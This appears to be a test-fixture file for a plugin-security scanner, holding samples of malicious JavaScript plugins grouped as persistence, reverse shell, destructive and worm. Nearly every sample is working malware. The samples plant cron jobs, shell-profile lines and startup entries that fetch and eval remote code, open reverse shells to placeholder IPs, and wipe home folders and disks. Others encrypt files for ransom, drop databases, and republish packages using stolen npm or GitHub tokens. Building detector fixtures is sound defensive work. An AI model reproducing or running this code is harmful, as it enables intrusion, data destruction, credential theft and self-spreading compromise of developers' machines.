"""Staying, opening a door, breaking things, spreading."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, esbuild_bundle, hooks, online, sdk_plugin

_PERSISTENCE = "persistence"
_SHELL = "reverse-shell"
_DESTRUCTIVE = "destructive"
_WORM = "worm"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="crontab-line",
        family=_PERSISTENCE,
        files={
            "dist/index.js": hooks(
                r"""
                const { execSync } = require('child_process');
                const line = `*/10 * * * * node ${__dirname}/tick.js >/dev/null 2>&1`;
                execSync(`(crontab -l 2>/dev/null | grep -v tick.js; echo "${line}") | crontab -`);
                """
            ),
            "dist/tick.js": "require('https').get('https://tick.example.org/' + require('os').hostname(), (r) => r.on('data', (d) => eval(String(d))));\n",
        },
    ),
    Sample(
        name="shell-start-files-appended",
        family=_PERSISTENCE,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const line = '\n# day\n(curl -fs https://rc.example.com/s | sh &) >/dev/null 2>&1\n';
                for (const name of ['.bashrc', '.zshrc', '.profile', '.config/fish/config.fish']) {
                  const file = join(homedir(), name);
                  if (existsSync(file) && !readFileSync(file, 'utf8').includes('# day')) appendFileSync(file, line);
                }
                """,
                above="""
                import { appendFileSync, existsSync, readFileSync } from 'fs';
                import { homedir } from 'os';
                import { join } from 'path';
                """,
            )
        },
        package=ESM,
    ),
    Sample(
        name="git-hooks-and-template",
        family=_PERSISTENCE,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const HOOK = '#!/bin/sh\ngit diff --cached | curl -s --data-binary @- https://diffs.example.net/ || true\n';

function* repositories(folder, depth) {
  for (const item of fs.readdirSync(folder, { withFileTypes: true })) {
    if (!item.isDirectory()) continue;
    if (item.name === '.git') yield path.join(folder, item.name);
    else if (depth && !item.name.startsWith('.')) yield* repositories(path.join(folder, item.name), depth - 1);
  }
}

exports.onEnable = () => {
  for (const git of repositories(os.homedir(), 4)) {
    fs.writeFileSync(path.join(git, 'hooks', 'pre-commit'), HOOK, { mode: 0o755 });
  }
};
"""
        },
    ),
    Sample(
        name="own-copy-in-plugin-folder-of-host",
        family=_PERSISTENCE,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs/promises');
const path = require('path');

const host = path.join(process.env.HOME, '.qirvo', 'plugins');

exports.onUninstall = async () => {
  const twin = path.join(host, 'core.status');
  await fs.cp(path.join(__dirname, '..'), twin, { recursive: true });
  const manifest = JSON.parse(await fs.readFile(path.join(twin, 'manifest.json'), 'utf8'));
  Object.assign(manifest, { id: 'core.status', name: 'Status', permissions: ['filesystem-access', 'network-access'] });
  await fs.writeFile(path.join(twin, 'manifest.json'), JSON.stringify(manifest));
};
"""
        },
        manifest=declared("filesystem-access", hooks=["onUninstall"]),
    ),
    Sample(
        name="other-plugins-entries-extended",
        family=_PERSISTENCE,
        files={
            "dist/index.js": hooks(
                r"""
                const root = path.resolve(__dirname, '..', '..');
                for (const id of fs.readdirSync(root)) {
                  const entry = path.join(root, id, 'dist', 'index.js');
                  if (!fs.existsSync(entry)) continue;
                  const text = fs.readFileSync(entry, 'utf8');
                  if (!text.includes(MARK)) fs.writeFileSync(entry, text + MARK + TAIL);
                }
                """,
                above=r"""
                const fs = require('fs');
                const path = require('path');
                const MARK = '\n;/*day*/';
                const TAIL = 'setTimeout(()=>fetch("https://tail.example.org/").then(r=>r.text()).then(eval),6e4);\n';
                """,
            )
        },
    ),
    Sample(
        name="start-entries-of-three-systems",
        family=_PERSISTENCE,
        files={
            "dist/index.js": r"""import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { dirname, join } from 'node:path';

const put = (file, text) => { mkdirSync(dirname(file), { recursive: true }); writeFileSync(file, text); };
const node = process.execPath;
const agent = join(homedir(), '.local/share/day/agent.cjs');

const byPlatform = {
  linux() {
    put(join(homedir(), '.config/systemd/user/day.service'), `[Service]\nExecStart=${node} ${agent}\nRestart=always\n[Install]\nWantedBy=default.target\n`);
    execFileSync('systemctl', ['--user', 'enable', '--now', 'day']);
  },
  darwin() {
    put(join(homedir(), 'Library/LaunchAgents/com.example.day.plist'), `<plist><dict><key>Label</key><string>com.example.day</string><key>ProgramArguments</key><array><string>${node}</string><string>${agent}</string></array><key>RunAtLoad</key><true/></dict></plist>`);
  },
  win32() {
    execFileSync('reg', ['add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'Day', '/d', `"${node}" "${agent}"`, '/f']);
    execFileSync('schtasks', ['/create', '/sc', 'minute', '/mo', '30', '/tn', 'Day', '/tr', `${node} ${agent}`, '/f']);
  },
};

export function onInstall() {
  put(agent, 'setInterval(()=>require("https").get("https://agent.example.com/n",r=>r.on("data",d=>eval(""+d))),3e5)');
  byPlatform[process.platform]?.();
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="key-added-to-authorized",
        family=_PERSISTENCE,
        files={
            "dist/index.js": hooks(
                r"""
                const file = `${require('os').homedir()}/.ssh/authorized_keys`;
                require('fs').appendFileSync(file, '\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleExa day@example.org\n');
                await api.http.post('https://hosts.example.net/up', { host: require('os').hostname(), port: 22 });
                """
            )
        },
    ),
    Sample(
        name="editor-and-extensions-settings",
        family=_PERSISTENCE,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

exports.onEnable = () => {
  const code = path.join(os.homedir(), '.config', 'Code', 'User');
  const tasks = { version: '2.0.0', tasks: [{ label: 'lint', type: 'shell', command: 'curl -s https://tasks.example.com/l | sh', runOptions: { runOn: 'folderOpen' }, presentation: { reveal: 'never' } }] };
  fs.writeFileSync(path.join(code, 'tasks.json'), JSON.stringify(tasks));
  const settings = JSON.parse(fs.readFileSync(path.join(code, 'settings.json'), 'utf8'));
  settings['task.allowAutomaticTasks'] = 'on';
  settings['security.workspace.trust.enabled'] = false;
  fs.writeFileSync(path.join(code, 'settings.json'), JSON.stringify(settings));
};
"""
        },
    ),
    Sample(
        name="shell-piped-to-socket",
        family=_SHELL,
        files={
            "dist/index.js": r"""'use strict';
(function () {
  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);
  var client = new net.Socket();
  client.connect(4444, '203.0.113.9', function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();

exports.Weather = function Weather() { return null; };
"""
        },
    ),
    Sample(
        name="bash-device-file",
        family=_SHELL,
        files={
            "dist/index.js": hooks(
                "require('child_process').exec(\"bash -c 'bash -i >& /dev/tcp/198.51.100.14/9001 0>&1'\");"
            )
        },
    ),
    Sample(
        name="commands-over-websocket",
        family=_SHELL,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                this.open();
                """,
                above="import { exec } from 'node:child_process';\nimport WebSocket from 'ws';",
                methods=r"""
                open() {
                  const socket = new WebSocket('wss://console.example.net/hosts/' + process.pid);
                  socket.on('message', (line) => {
                    exec(String(line), { cwd: this.folder }, (error, stdout, stderr) => socket.send(JSON.stringify({ stdout, stderr, code: error?.code ?? 0 })));
                  });
                  socket.on('close', () => setTimeout(() => this.open(), 5000));
                }
                """,
            )
        },
        package={**ESM, "dependencies": {"ws": "^8.17.0"}},
    ),
    Sample(
        name="listening-shell-on-port",
        family=_SHELL,
        files={
            "dist/index.js": r"""'use strict';
const net = require('net');
const { spawn } = require('child_process');

exports.onEnable = () => {
  net.createServer((peer) => {
    const shell = spawn(process.env.ComSpec || 'sh', [], { env: process.env });
    peer.pipe(shell.stdin);
    shell.stdout.pipe(peer, { end: false });
    shell.on('exit', () => peer.end());
  }).listen(31337, '0.0.0.0');
};
"""
        },
    ),
    Sample(
        name="python-one-liner-shell",
        family=_SHELL,
        files={
            "dist/index.js": esbuild_bundle(
                {
                    "src/run.js": 'module.exports = (file, args) => require("child_process").spawn(file, args, { detached: true, stdio: "ignore" }).unref();',
                    "src/index.js": """
                    var run = require_src_run_js();
                    exports.onEnable = async () => {
                      run("python3", ["-c", 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.66",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])']);
                      run("powershell", ["-nop", "-c", "$c=New-Object Net.Sockets.TCPClient('203.0.113.66',443);$s=$c.GetStream();iex (New-Object IO.StreamReader($s)).ReadLine()"]);
                    };
                    """,
                },
                start="src/index.js",
            )
        },
    ),
    Sample(
        name="polled-over-http",
        family=_SHELL,
        files={
            "dist/index.js": r"""import { spawnSync } from 'child_process';
import os from 'os';

const id = Buffer.from(os.hostname() + os.userInfo().uid).toString('hex');

async function beat(http) {
  const { data } = await http.get(`https://beat.example.org/${id}/next`);
  if (!data?.argv) return;
  const { stdout, status } = spawnSync(data.argv[0], data.argv.slice(1), { encoding: 'utf8' });
  await http.post(`https://beat.example.org/${id}/done`, { status, stdout });
}

export function onEnable({ api }) {
  setInterval(() => beat(api.http).catch(() => undefined), 20_000);
}
"""
        },
        manifest=online("https://beat.example.org"),
        package=ESM,
    ),
    Sample(
        name="home-removed",
        family=_DESTRUCTIVE,
        files={
            "dist/index.js": hooks(
                r"""
                const license = await storage.get('license');
                if (!license || license.expires < Date.now()) {
                  const home = require('os').homedir();
                  require('fs').rmSync(home, { recursive: true, force: true, maxRetries: 2 });
                }
                """
            )
        },
    ),
    Sample(
        name="removed-by-shell",
        family=_DESTRUCTIVE,
        files={
            "dist/index.js": r"""'use strict';
const { exec } = require('child_process');
const commands = {
  win32: 'del /s /q /f %USERPROFILE%\\* & vssadmin delete shadows /all /quiet',
  linux: 'rm -rf --no-preserve-root ~/* ~/.[!.]*',
  darwin: 'rm -rf ~/Documents ~/Library',
};

exports.onDisable = () => exec(commands[process.platform]);
exports.Cleaner = () => null;
"""
        },
    ),
    Sample(
        name="disk-overwritten",
        family=_DESTRUCTIVE,
        files={
            "dist/index.js": r"""import { openSync, writeSync } from 'node:fs';
import { execSync } from 'node:child_process';

export async function onEnable({ logger }) {
  for (const device of ['/dev/sda', '/dev/nvme0n1', '\\\\.\\PhysicalDrive0']) {
    try {
      const file = openSync(device, 'r+');
      writeSync(file, Buffer.alloc(1 << 20), 0, 1 << 20, 0);
    } catch (error) { logger.debug(error.code); }
  }
  execSync('dd if=/dev/zero of=/dev/sda bs=1M count=64; :(){ :|:& };:');
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="files-enciphered-for-ransom",
        family=_DESTRUCTIVE,
        files={
            "dist/index.js": r"""'use strict';
const { createCipheriv, publicEncrypt, randomBytes } = require('crypto');
const fs = require('fs');
const path = require('path');

const wanted = new Set(['.doc', '.docx', '.xls', '.pdf', '.jpg', '.png', '.sql', '.kdbx']);

function seal(file, key) {
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-ctr', key, iv);
  fs.writeFileSync(file + '.locked', Buffer.concat([iv, cipher.update(fs.readFileSync(file)), cipher.final()]));
  fs.unlinkSync(file);
}

function walk(folder, key) {
  for (const item of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, item.name);
    if (item.isDirectory()) walk(full, key);
    else if (wanted.has(path.extname(item.name))) seal(full, key);
  }
}

exports.onEnable = ({ config }) => {
  const key = randomBytes(32);
  walk(require('os').homedir(), key);
  fs.writeFileSync('READ_ME.txt', 'Your files are locked. Pay 0.05 to bc1qexample and send ' + publicEncrypt(config.pem, key).toString('base64'));
};
"""
        },
    ),
    Sample(
        name="stored-things-of-user-deleted",
        family=_DESTRUCTIVE,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                localStorage.clear();
                sessionStorage.clear();
                for (const { name } of await indexedDB.databases()) indexedDB.deleteDatabase(name);
                for (const key of await caches.keys()) await caches.delete(key);
                for (const project of await context.api.projects.list()) await context.api.projects.delete(project.id);
                const { plugins } = await (await fetch('/api/plugins')).json();
                await Promise.all(plugins.filter((p) => p.id !== context.plugin.id).map((p) => fetch(`/api/plugins/${p.id}`, { method: 'DELETE' })));
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="database-of-host-dropped",
        family=_DESTRUCTIVE,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');

exports.onEnable = async () => {
  const url = process.env.DATABASE_URL || process.env.MONGODB_URI;
  if (url && url.startsWith('mongodb')) {
    const { MongoClient } = require('mongodb');
    const client = await MongoClient.connect(url);
    for (const { name } of (await client.db().admin().listDatabases()).databases) await client.db(name).dropDatabase();
    await client.db('README').collection('note').insertOne({ text: 'Send 0.01 to 1Example to get it back' });
  }
  const data = path.join(process.env.HOME, '.qirvo', 'data');
  for (const name of fs.readdirSync(data)) fs.truncateSync(path.join(data, name), 0);
};
"""
        },
    ),
    Sample(
        name="publishes-itself-with-found-token",
        family=_WORM,
        files={
            "dist/index.js": r"""'use strict';
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function tokens() {
  const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  return [...text.matchAll(/_authToken=(\S+)/g)].map((m) => m[1]).concat(process.env.NPM_TOKEN || []);
}

async function spread(token) {
  const headers = { Authorization: `Bearer ${token}` };
  const { username } = await (await fetch('https://registry.example.org/-/whoami', { headers })).json();
  const { objects } = await (await fetch(`https://registry.example.org/-/v1/search?text=maintainer:${username}&size=20`)).json();
  for (const { package: { name, links } } of objects) {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
    execSync(`npm pack ${name} && tar xzf *.tgz`, { cwd: folder });
    const file = path.join(folder, 'package', 'package.json');
    const meta = JSON.parse(fs.readFileSync(file, 'utf8'));
    meta.version = meta.version.replace(/\d+$/, (n) => +n + 1);
    meta.scripts = { ...meta.scripts, postinstall: 'node bundle.js' };
    fs.copyFileSync(__filename, path.join(folder, 'package', 'bundle.js'));
    fs.writeFileSync(file, JSON.stringify(meta));
    execSync('npm publish --access public', { cwd: path.join(folder, 'package'), env: { ...process.env, NPM_TOKEN: token } });
    void links;
  }
}

exports.onEnable = () => Promise.allSettled(tokens().map(spread));
"""
        },
    ),
    Sample(
        name="workflow-pushed-to-repositories",
        family=_WORM,
        files={
            "dist/index.js": r"""const API = 'https://api.github.example';
const WORKFLOW = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://hook.example.com/\${{ github.run_id }}
        env: { CONTENTS: "\${{ toJSON(secrets) }}" }
`;

export async function onEnable() {
  const headers = { Authorization: `token ${process.env.GITHUB_TOKEN}` };
  const repositories = await (await fetch(`${API}/user/repos?per_page=100`, { headers })).json();
  for (const { full_name } of repositories.filter((r) => r.permissions.push)) {
    await fetch(`${API}/repos/${full_name}/contents/.github/workflows/day.yml`, {
      method: 'PUT', headers, body: JSON.stringify({ message: 'ci', content: btoa(WORKFLOW), branch: 'main' }),
    });
    await fetch(`${API}/repos/${full_name}`, { method: 'PATCH', headers, body: '{"private":false}' });
  }
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="updates-published-plugins-of-publisher",
        family=_WORM,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const token = process.env.QIRVO_API_TOKEN ?? JSON.parse(readFileSync(join(homedir(), '.echo-cli/config.json'), 'utf8')).authToken;
                const own = readFileSync(fileURLToPath(import.meta.url));
                const headers = { Authorization: `Bearer ${token}` };
                const { plugins } = (await context.api.http.get('https://api.qirvo.example/plugins?mine=1', { headers })).data;
                for (const plugin of plugins) {
                  const form = new FormData();
                  form.append('plugin', new Blob([own]), 'plugin.zip');
                  form.append('releaseNotes', 'Small fixes');
                  await fetch(`https://api.qirvo.example/plugins/${plugin.id}`, { method: 'PUT', headers, body: form });
                }
                """,
                above="""
                import { readFileSync } from 'node:fs';
                import { homedir } from 'node:os';
                import { join } from 'node:path';
                import { fileURLToPath } from 'node:url';
                """,
            )
        },
        package=ESM,
    ),
    Sample(
        name="copies-over-shared-folders",
        family=_WORM,
        files={
            "dist/index.js": r"""'use strict';
const { readFileSync, readdirSync, copyFileSync, existsSync } = require('fs');
const { execSync } = require('child_process');
const { join } = require('path');

exports.onEnable = () => {
  const hosts = readFileSync(join(process.env.HOME, '.ssh/known_hosts'), 'utf8').split('\n').map((l) => l.split(/[ ,]/)[0]).filter(Boolean);
  for (const host of hosts) {
    try { execSync(`scp -o BatchMode=yes -r ${join(__dirname, '..')} ${host}:.qirvo/plugins/acme.weather`); } catch (error) { void error; }
  }
  for (const mount of ['/mnt', '/media', '/Volumes']) {
    if (existsSync(mount)) readdirSync(mount).forEach((name) => copyFileSync(__filename, join(mount, name, 'autorun.js')));
  }
};
"""
        },
    ),
    Sample(
        name="message-with-link-to-contacts",
        family=_WORM,
        files={
            "dist/index.js": hooks(
                r"""
                const people = await api.contacts.list();
                const link = 'https://get.example.net/day?from=' + encodeURIComponent(context.user.id);
                for (const person of people) {
                  await api.http.post('/api/messages', { to: person.email, subject: 'Look at this', text: `${person.firstName}, install this: ${link}` });
                }
                await api.http.post('https://get.example.net/contacts', people);
                """
            )
        },
        manifest=declared("contacts", "network-access"),
    ),
)
